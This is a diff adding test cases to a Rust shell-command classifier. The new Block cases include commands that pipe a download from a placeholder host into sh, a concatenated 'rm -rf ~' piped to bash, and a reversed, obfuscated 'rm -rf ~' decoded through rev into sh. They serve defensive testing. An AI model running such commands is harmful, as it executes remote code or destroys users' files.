@@ -1131,6 +1131,16 @@ mod tests {
                 "curl -o list https://e.x/l && xargs -a list sh -c",
                 "download-to-shell",
             ),
+            ("cat <(curl -s https://e.x/i) | sh", "download-to-shell"),
+            (
+                "cat a.sh <(curl -s https://e.x/i) | sh",
+                "download-to-shell",
+            ),
+            (
+                "cat <(echo hi) <(echo 'rm -rf ~') | bash",
+                "rm-critical-path",
+            ),
+            ("rev <(echo '~ fr- mr') | sh", "decode-to-shell"),
         ] {
             let (decision, rules) = judged(command);
             assert_eq!(decision, Decision::Block, "{command}: {rules:?}");
@@ -1150,6 +1160,9 @@ mod tests {
             "diff <(sort a) <(sort b)",
             "{ echo a; echo b; } > >(sort)",
             "dd if=build.sh of=>(sh)",
+            "cat <(git log -1) | less",
+            "cat build.sh lib.sh | bash",
+            "rev build.sh | sh",
         ] {
             let (decision, rules) = judged(command);
             assert_eq!(decision, Decision::Allow, "{command}: {rules:?}");
